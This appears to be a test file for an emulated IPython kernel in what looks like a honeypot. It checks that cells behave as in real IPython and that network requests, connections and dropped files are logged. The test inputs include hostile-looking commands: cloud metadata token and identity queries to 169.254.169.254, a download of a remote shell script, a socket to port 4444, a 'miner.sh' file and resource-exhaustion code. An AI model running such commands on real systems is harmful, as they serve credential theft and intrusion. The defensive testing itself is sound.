import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { personaOf } from '../../persona/persona.ts';
import { Quota } from '../../world/files/quota.ts';
import { createHost } from '../../world/systems/host.ts';
import { type CellResult, createInterpreter, isWaiting } from './cell.ts';
import { machineOf } from './commands.ts';

const persona = personaOf('cells');

function kernel() {
  const world = createHost(persona, new Quota(64 << 20));
  const machine = machineOf(world, () => new AbortController().signal);
  const interpreter = createInterpreter(machine, '/root');
  return {
    machine,
    async run(code: string): Promise<CellResult & { readonly stdout: string; readonly stderr: string }> {
      const printed = { stdout: '', stderr: '' };
      const result = await interpreter.run(code, {
        write(to, text) {
          printed[to] += text;
        },
      });
      return { ...result, ...printed };
    },
  };
}

/** Cells and what the real kernel (IPython 8.5.0, Python 3.11.2) printed and returned for them, 2026-11. */
const cells: readonly (readonly [code: string, stdout: string, result: string | undefined])[] = [
  ['1+1', '', '2'],
  ['"a"+"b"', '', "'ab'"],
  ['print("a")\nimport subprocess\nsubprocess.check_output("echo hi",shell=True)', 'a\n', "b'hi\\n'"],
  ['%%bash\necho hi', 'hi\n', undefined],
  ['x=!echo a b\nprint(x)', "['a b']\n", undefined],
  ['!echo hi', 'hi\r\n', undefined],
  ['!nosuch', '/bin/bash: line 1: nosuch: command not found\r\n', undefined],
  ['import os\nos.system("echo hi")', 'hi\n', '0'],
  ['import os\nos.popen("echo hi").read()', '', "'hi\\n'"],
  ['import subprocess as s\np=s.Popen(["echo","hi"],stdout=-1)\np.communicate()', '', "(b'hi\\n', None)"],
  [
    'import subprocess\nsubprocess.run(["echo","hi"])',
    'hi\n',
    "CompletedProcess(args=['echo', 'hi'], returncode=0)",
  ],
  [
    'import subprocess\nsubprocess.run("echo hi",shell=True,capture_output=True)',
    '',
    "CompletedProcess(args='echo hi', returncode=0, stdout=b'hi\\n', stderr=b'')",
  ],
  ['!!echo hi', '', "['hi']"],
  ['%system echo hi', '', "['hi']"],
  ['get_ipython().system("echo hi")', 'hi\r\n', undefined],
  ['import subprocess\nsubprocess.getoutput("echo hi")', '', "'hi'"],
  ['__import__("os").system("echo hi")', 'hi\n', '0'],
  ['import os\nos.getcwd()', '', "'/root'"],
  ['4/2, 7//2, 2**10, -3, True and None', '', '(2.0, 3, 1024, -3, None)'],
  ['{"a": [1, (2,)], b"x": None}', '', "{'a': [1, (2,)], b'x': None}"],
  ['"abc"[::-1], "abc"[1:], [1,2,3][-1]', '', "('cba', 'bc', 3)"],
  ['for i in range(3):\n    print(i, end=" ")', '0 1 2 ', undefined],
  ['def f(x, y=2):\n    return x*y\nf(4)', '', '8'],
  ['[x*2 for x in [1,2] if x>1]', '', '[4]'],
  ['f"{1+1} {\'a\'}"', '', "'2 a'"],
  ['"%s:%d" % ("a", 5)', '', "'a:5'"],
  ['try:\n    1/0\nexcept Exception as e:\n    print("err", e)', 'err division by zero\n', undefined],
  ['import base64\nexec(base64.b64decode("cHJpbnQoJ2RlY29kZWQnKQ=="))', 'decoded\n', undefined],
  ['x = 5; x', '', '5'],
  ['n = 0\nwhile n < 3:\n    n += 1\nn', '', '3'],
  ['if 1 > 2:\n    a = 1\nelif 2 > 1:\n    a = 2\nelse:\n    a = 3\na', '', '2'],
];

describe('a cell', () => {
  for (const [code, stdout, result] of cells)
    it(`answers ${JSON.stringify(code)} as IPython does`, async () => {
      const ran = await kernel().run(code);
      assert.equal(ran.kind, 'ok', JSON.stringify(ran));
      assert.equal(ran.stdout, stdout);
      assert.equal(ran.kind === 'ok' ? ran.result : 'failed', result);
    });

  it('fails with the name and the words of the exception, at its line', async () => {
    const failures = [
      ['a = 1\n1/0', 'ZeroDivisionError', 'division by zero', 2],
      ['os.system("id")', 'NameError', "name 'os' is not defined", 1],
      ['import nosuchmodule', 'ModuleNotFoundError', "No module named 'nosuchmodule'", 1],
      ['print(nosuch', 'SyntaxError', 'incomplete input', 1],
      ['open("/nosuch")', 'FileNotFoundError', "[Errno 2] No such file or directory: '/nosuch'", 1],
      ['!echo hi &', 'OSError', 'Background processes not supported.', 1],
      ['"a" + 1', 'TypeError', 'can only concatenate str (not "int") to str', 1],
    ] as const;
    for (const [code, type, message, line] of failures) {
      const { kind, ...ran } = await kernel().run(code);
      assert.deepEqual({ kind, ...ran }, { kind: 'error', type, message, line, stdout: '', stderr: '' });
    }
  });

  it('keeps its names, its directory and its files for the next', async () => {
    const { run } = kernel();
    await run('import os\nos.chdir("/tmp")\nline = "echo left > x.sh"');
    await run('os.system(line)');
    assert.equal((await run('open("x.sh").read()')).stdout, '');
    const read = await run('open("x.sh").read(), os.getcwd()');
    assert.equal(read.kind === 'ok' && read.result, "('left\\n', '/tmp')");
    await run('%%writefile y.sh\nid\n');
    const second = await run('!cat /tmp/y.sh');
    assert.equal(second.stdout, 'id\r\n');
  });

  it('methods, headers and answers of requests are those of the service that is asked', async () => {
    const { stdout } = await kernel().run(
      'import requests\nr=requests.put("http://169.254.169.254/latest/api/token",headers={"X-aws-ec2-metadata-token-ttl-seconds":"60"})\nprint(r.status_code,len(r.text))\nd=requests.get("http://169.254.169.254/latest/dynamic/instance-identity/document").json()\nprint("accountId" in d,requests.get("http://169.254.169.254/none").status_code)',
    );
    assert.equal(stdout, '200 56\nTrue 404\n');
  });

  it('tells of addresses that it asked and files that it left, whichever way', async () => {
    const { run, machine } = kernel();
    await run('import urllib.request\nurllib.request.urlopen("http://198.51.100.7/a.sh").read()');
    await run('import socket\ns = socket.socket()\ns.connect(("198.51.100.9", 4444))');
    await run('with open("/tmp/miner.sh", "w") as f:\n    f.write("echo hi")');
    const { notes, artefacts } = machine.takeNotes();
    assert.ok(
      notes.some((note) => note.kind === 'request' && note.url === 'http://198.51.100.7/a.sh') ||
        notes.some((note) => note.kind === 'command' && note.words.includes('http://198.51.100.7/a.sh')),
    );
    assert.ok(
      notes.some((note) => note.kind === 'connect' && note.host === '198.51.100.9' && note.port === 4444),
      JSON.stringify(notes),
    );
    assert.deepEqual(
      artefacts.map(({ name, content }) => [name, Buffer.from(content).toString()]),
      [['/tmp/miner.sh', 'echo hi']],
    );
  });

  it('runs the commands of code that it cannot read as a whole', async () => {
    const ran = await kernel().run(
      'class Job(object):\n    pass\nimport os\nos.system("echo from a class")\n',
    );
    assert.match(ran.stdout, /from a class/);
  });

  it('ends whatever is endless, deep or large', { timeout: 20_000 }, async () => {
    const hostile = [
      'while True:\n    pass',
      'def f():\n    return f()\nf()',
      `${'('.repeat(5000)}1${')'.repeat(5000)}`,
      '9**9**9**9',
      '"a" * 10**9',
      'x = [0]\nfor i in range(10**9):\n    x = x + x',
      `x = 1\n${'if x:\n'.repeat(100)}`,
      'exec("exec(c)")\nc = "exec(c)"\nexec(c)',
      "'''".repeat(3001),
      `${'!echo '.padEnd(300_000, 'a')}`,
    ];
    const { run } = kernel();
    for (const code of hostile) await run(code);
  });
});

it('a cell waits where a block, a bracket or a quote is open', () => {
  for (const code of ['for a in b:', 'print(', 'x = """a']) assert.ok(isWaiting(code), code);
  for (const code of ['a = 1', 'a =', '!ls']) assert.ok(!isWaiting(code), code);
});
